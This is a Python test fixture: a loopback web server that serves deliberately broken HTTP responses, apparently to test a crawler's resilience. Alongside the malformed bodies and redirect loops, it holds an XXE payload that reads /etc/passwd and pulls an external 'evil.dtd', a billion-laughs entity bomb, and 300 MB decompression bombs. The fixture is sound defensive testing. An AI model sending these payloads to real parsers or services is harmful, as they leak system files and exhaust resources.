"""A web server on loopback with all the ways of being broken, each under a path of its own.

    with FaultServer() as web:
        crawl(tmp_path, attributes={"urls": [web.base + "/gzip-cut"]})
    assert web.counts["/gzip-cut"] == 2

It speaks on the bare socket, so that it can say what no proper server would. `FAULTS` names every fault; a handler
gets the `Talk` (the request and the socket) and says what it likes. `/page/N` is a good article page, `/slow-*` are
slow, `/again/X` fails the first time and is good the second.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import random
import re
import socket
import socketserver
import ssl
import subprocess
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from urllib.parse import unquote

import brotli

MB = 1024 * 1024
PAGE = (
    "<!DOCTYPE html><html lang=en><head><title>The bridge at Port Elm opens again - The Fault Times</title></head>"
    "<body><article><h1>The bridge at Port Elm opens again</h1><p class=byline>By Ada Lindqvist</p>"
    + "".join(
        f"<p>Paragraph {i}: the ferrymen who carried the town for three winters watched the first cars cross, and one "
        "of them said that he would miss the river more than the wages.</p>"
        for i in range(12)
    )
    + "</article></body></html>"
).encode()


WORDS = """harbour council bridge river school budget market railway hospital orchard museum ferry stadium library
festival drought election tariff glacier vaccine theatre reservoir lighthouse bakery quarry""".split()


def _varied(path: str) -> bytes:
    """A good page that is like no other: same markup as `PAGE`, other words."""
    chance = random.Random(path)
    page = re.sub(rb"(?<=winters )[a-z ]+", lambda _: " ".join(chance.choices(WORDS, k=30)).encode() + b" ", PAGE)
    return page.replace(b"Port Elm opens", b"Port %s opens" % chance.choice(WORDS).capitalize().encode())


@dataclass
class Talk:
    """One request, and the socket to answer on."""

    path: str
    headers: dict[str, str]
    socket: socket.socket
    server: FaultServer
    at: float = field(default_factory=time.monotonic)

    def say(self, *parts: str | bytes) -> None:
        """Send bytes as they are."""
        for part in parts:
            self.socket.sendall(part.encode("latin-1") if isinstance(part, str) else part)

    def head(self, status: str = "200 OK", **headers: str | int) -> None:
        """Send a status line and headers (`_` for `-`)."""
        lines = [f"HTTP/1.1 {status}", *(f"{name.replace('_', '-')}: {value}" for name, value in headers.items())]
        self.say("\r\n".join(lines) + "\r\n\r\n")

    @property
    def article(self) -> bytes:
        """The good page of this path: `PAGE`, or one of its own where the server has `varied`."""
        return _varied(self.path) if self.server.varied else PAGE

    def page(self, body: bytes | None = None, status: str = "200 OK", **headers: str | int) -> None:
        """Send a whole, proper answer; the good page where no other is given."""
        body = self.article if body is None else body
        self.head(status, **{"Content_Type": "text/html; charset=utf-8", "Content_Length": len(body), **headers})
        self.say(body)

    def close(self) -> None:
        """Hang up."""
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)

    def forever(self, chunk: bytes, pause: float = 0.0, at_most: float = 20.0) -> None:
        """Go on sending until the other side has had enough."""
        end = time.monotonic() + at_most
        with contextlib.suppress(OSError):
            while time.monotonic() < end:
                self.say(chunk)
                time.sleep(pause)


Handler = Callable[[Talk], None]
FAULTS: dict[str, Handler] = {}


def fault(path: str) -> Callable[[Handler], Handler]:
    """Register a handler for a path (and for what begins with it and a slash)."""

    def register(handler: Handler) -> Handler:
        FAULTS[path] = handler
        return handler

    return register


def _first(talk: Talk) -> bool:
    """Whether this path is asked for the first time."""
    return talk.server.counts[talk.path] == 1


# --- errors and slowness ------------------------------------------------------------------------------
@fault("/500")
def _500(talk: Talk) -> None:
    talk.page(b"<h1>Broken</h1>", "500 Internal Server Error")


@fault("/again/500")
def _500_once(talk: Talk) -> None:
    talk.page(b"<h1>Broken</h1>", "502 Bad Gateway") if _first(talk) else talk.page()


@fault("/again/429")
def _429_once(talk: Talk) -> None:
    talk.page(b"", "429 Too Many Requests", Retry_After=1) if _first(talk) else talk.page()


@fault("/429")
def _429(talk: Talk) -> None:
    talk.page(b"", "429 Too Many Requests", Retry_After=unquote(talk.path.rpartition("/")[2]) or 1)


@fault("/403")
def _403(talk: Talk) -> None:
    talk.page(b"<h1>No</h1>", "403 Forbidden")


@fault("/slow-body")
def _slow_body(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Content_Length=100_000)
    talk.forever(b"x", 0.05)


@fault("/slow-head")
def _slow_head(talk: Talk) -> None:
    talk.say("HTTP/1.1 200 OK\r\n")
    talk.forever(b"X-Wait: 1\r\n", 0.05)


@fault("/drop")
def _drop(talk: Talk) -> None:
    talk.close()


# --- headers ------------------------------------------------------------------------------------------
@fault("/long-header")
def _long_header(talk: Talk) -> None:
    talk.say("HTTP/1.1 200 OK\r\nX-Long: ")
    with contextlib.suppress(OSError):
        talk.say(b"a" * 5 * MB, "\r\nContent-Length: 2\r\n\r\nok")


@fault("/many-headers")
def _many_headers(talk: Talk) -> None:
    with contextlib.suppress(OSError):
        talk.say("HTTP/1.1 200 OK\r\n", "".join(f"X-{i}: {i}\r\n" for i in range(20_000)))
        talk.say("Content-Length: 2\r\n\r\nok")


# --- bodies that are not whole, or not what they are called -------------------------------------------
@fault("/gzip-cut")
def _gzip_cut(talk: Talk) -> None:
    body = gzip.compress(talk.article)
    talk.page(body[: len(body) // 2], Content_Encoding="gzip")


@fault("/again/gzip-cut")
def _gzip_cut_once(talk: Talk) -> None:
    body = gzip.compress(talk.article)
    talk.page(body[: len(body) // 2] if _first(talk) else body, Content_Encoding="gzip")


@fault("/gzip-no-trailer")
def _gzip_no_trailer(talk: Talk) -> None:
    talk.page(gzip.compress(talk.article)[:-8], Content_Encoding="gzip")


@fault("/not-gzip")
def _not_gzip(talk: Talk) -> None:
    """Plain, but called gzip, unless nothing else is accepted."""
    if talk.headers.get("accept-encoding") == "identity":
        talk.page()
    else:
        talk.page(Content_Encoding="gzip")


@fault("/never-gzip")
def _never_gzip(talk: Talk) -> None:
    talk.page(Content_Encoding="gzip")


@fault("/noise-gzip")
def _noise_gzip(talk: Talk) -> None:
    talk.page(bytes(range(256)) * 20, Content_Encoding="gzip")


@fault("/too-long")
def _too_long(talk: Talk) -> None:
    """Content-Length larger than the body."""
    talk.head(Content_Type="text/html", Content_Length=len(talk.article) + 1000)
    talk.say(talk.article[: int(len(talk.article) * 0.6)])
    talk.close()


@fault("/too-long-whole")
def _too_long_whole(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Content_Length=len(talk.article) + 3)
    talk.say(talk.article)
    talk.close()


@fault("/feed-cut")
def _feed_cut(talk: Talk) -> None:
    talk.head(Content_Type="application/rss+xml", Content_Length=5000)
    talk.say(b"<rss><channel><item><link>http://a.example/1</link></item>")
    talk.close()


@fault("/bad-chunk")
def _bad_chunk(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Transfer_Encoding="chunked")
    talk.say("64\r\n", talk.article[:100], "\r\n", "zz\r\nnot a chunk")
    talk.close()


@fault("/too-short")
def _too_short(talk: Talk) -> None:
    """Content-Length smaller than the body: it ends inside a tag."""
    cut = talk.article.index(b"<p>", 900) + 2
    talk.page(talk.article[:cut])


@fault("/until-close")
def _until_close(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Connection="close")
    talk.say(talk.article)
    talk.close()


# --- redirects ----------------------------------------------------------------------------------------
@fault("/redirect-endless")
def _redirect_endless(talk: Talk) -> None:
    number = int(talk.path.rpartition("/")[2] or 0) if talk.path.count("/") > 1 else 0
    talk.page(b"", "302 Found", Location=f"/redirect-endless/{number + 1}")


@fault("/redirect-self")
def _redirect_self(talk: Talk) -> None:
    talk.page(b"", "302 Found", Location=talk.path)


@fault("/redirect-cookie")
def _redirect_cookie(talk: Talk) -> None:
    """A consent wall: itself again, once the cookie is there."""
    if "seen=1" in talk.headers.get("cookie", ""):
        talk.page()
    else:
        talk.page(b"", "302 Found", Location=talk.path, Set_Cookie="seen=1; Path=/")


@fault("/redirect-to")
def _redirect_to(talk: Talk) -> None:
    talk.page(b"", "302 Found", Location=unquote(talk.path.partition("?")[2]))


@fault("/refresh-to")
def _refresh_to(talk: Talk) -> None:
    to = unquote(talk.path.partition("?")[2])
    talk.page(f'<meta http-equiv="refresh" content="0; url={to}">'.encode())


# --- size ---------------------------------------------------------------------------------------------
@fault("/endless")
def _endless(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Connection="close")
    talk.forever(b"<p>more</p>" * 10_000)
    talk.close()


@fault("/huge")
def _huge(talk: Talk) -> None:
    talk.head(Content_Type="text/html", Content_Length=100 * MB)
    talk.forever(b"<p>more</p>" * 10_000)


def _bomb(kind: str, megabytes: int) -> bytes:
    if kind == "br":
        return brotli.compress(b"\0" * (megabytes * MB), quality=5)
    if kind == "deflate":
        return zlib.compress(b"\0" * (megabytes * MB))
    if kind == "zstd":
        from backports import zstd

        return zstd.compress(b"\0" * (megabytes * MB))
    return gzip.compress(b"\0" * (megabytes * MB), 6)


@fault("/bomb")
def _bombs(talk: Talk) -> None:
    kind = talk.path.partition("?")[0].rpartition("/")[2]
    talk.page(talk.server.bomb(kind), Content_Encoding=kind)


# --- text ---------------------------------------------------------------------------------------------
CHARSETS = {
    "rot13": (b"<meta http-equiv=refresh content='0; url=/page/2'><h1>Hello</h1></html>", "text/html; charset=rot13"),
    "klingon": (b"<meta charset=klingon><h1>Gr\xfc\xdfe</h1></html>", "text/html; charset=klingon"),
    "utf-16": ("\ufeff<h1>Grüße</h1></html>".encode("utf-16-le"), "text/html"),
    "utf-7": ("<h1>Grüße</h1></html>".encode(), "text/html; charset=utf-7"),
    "nul": ("<h1>Gr\0üße</h1></html>".encode(), "text/html; charset=utf-8"),
    "latin-as-utf-8": ("<h1>Grüße</h1></html>".encode("latin-1"), "text/html; charset=utf-8"),
}


@fault("/charset")
def _charset(talk: Talk) -> None:
    body, kind = CHARSETS[talk.path.rpartition("/")[2]]
    talk.page(body, Content_Type=kind)


XXE = b"""<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY % far SYSTEM "http://127.0.0.1:9/evil.dtd"> %far;]>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>http://a.example/&secret;</loc></url>
<url><loc>http://a.example/good</loc></url></urlset>"""
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "ha">%s]>
<urlset><url><loc>http://a.example/&z9;</loc></url><url><loc>http://a.example/good</loc></url></urlset>""" % b"".join(
    b'<!ENTITY %s "%s">' % (b"z%d" % i, (b"&a;" if i == 0 else b"&z%d;" % (i - 1)) * 10) for i in range(10)
)


def self_signed(directory: Path, names: str = "IP:127.0.0.1") -> Path:
    """A certificate for 127.0.0.1, or other names, that nobody signed, and its key, in one PEM file."""
    path = directory / "self-signed.pem"
    words = f"req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=newsbot -addext subjectAltName={names}"
    command = ["openssl", *words.split(), "-keyout", str(path), "-out", str(directory / "certificate")]
    subprocess.run(command, check=True, capture_output=True)
    path.write_bytes(path.read_bytes() + (directory / "certificate").read_bytes())
    return path


class FaultServer:
    """The server; a context manager. `log` has every request as it came; `counts` how often each path came."""

    def __init__(self, address: str = "127.0.0.1", certificate: Path | None = None) -> None:
        """With a certificate (a PEM file with its key) it speaks https."""
        self.log: list[Talk] = []
        self.counts: Counter[str] = Counter()
        self.connections = 0
        self.robots: Handler = lambda talk: talk.page(b"", "404 Not Found")
        self.extra: dict[str, Handler] = {}
        self.missing: Handler = _not_found
        self.varied = False
        self._bombs: dict[str, bytes] = {}
        self._lock = threading.Lock()
        self._building = threading.Lock()
        self._server = _Server((address, 0), _Conversation)
        self._server.faults = self
        self._server.tls = None
        if certificate is not None:
            self._server.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self._server.tls.load_cert_chain(certificate)
        self.port: int = self._server.server_address[1]
        self.base = f"{'https' if certificate else 'http'}://{address}:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)

    def __enter__(self) -> FaultServer:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()

    def times(self, path: str) -> list[float]:
        """When a path was asked for (monotonic seconds)."""
        return [talk.at for talk in self.log if talk.path == path]

    def gaps(self, path: str) -> list[float]:
        """Seconds between the requests for a path."""
        times = self.times(path)
        return [after - before for before, after in pairwise(times)]

    def bomb(self, kind: str, megabytes: int = 300) -> bytes:
        """A body that is small until it is decompressed."""
        with self._building:
            if kind not in self._bombs:
                self._bombs[kind] = _bomb(kind, megabytes)
            return self._bombs[kind]

    def answer(self, talk: Talk) -> None:
        """Answer one request."""
        with self._lock:
            self.log.append(talk)
            self.counts[talk.path] += 1
        path = talk.path.partition("?")[0]
        if path == "/robots.txt":
            self.robots(talk)
        elif path in self.extra:
            self.extra[path](talk)
        elif path.startswith("/page"):
            talk.page()
        else:
            while path and path not in FAULTS:
                path = path.rpartition("/")[0]
            FAULTS.get(path, self.missing)(talk)


def _not_found(talk: Talk) -> None:
    talk.page(json.dumps({"missing": talk.path}).encode(), "404 Not Found")


class _Server(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True
    block_on_close = False
    request_queue_size = 128
    faults: FaultServer
    tls: ssl.SSLContext | None

    def handle_error(self, request: object, client_address: object) -> None:
        """A client that hangs up is no fault of the test."""


class _Conversation(socketserver.BaseRequestHandler):
    server: _Server

    def handle(self) -> None:
        connection = self.request
        self.server.faults.connections += 1
        if self.server.tls is not None:
            try:
                connection = self.server.tls.wrap_socket(connection, server_side=True)
            except OSError:  # the client does not trust us
                return
        with connection, connection.makefile("rb") as reader:
            while line := reader.readline(65_536):
                headers: dict[str, str] = {}
                while (header := reader.readline(65_536).strip()) != b"":
                    name, _, value = header.decode("latin-1").partition(":")
                    headers[name.lower()] = value.strip()
                path = line.decode("latin-1").split(" ")[1]
                self.server.faults.answer(Talk(path, headers, connection, self.server.faults))
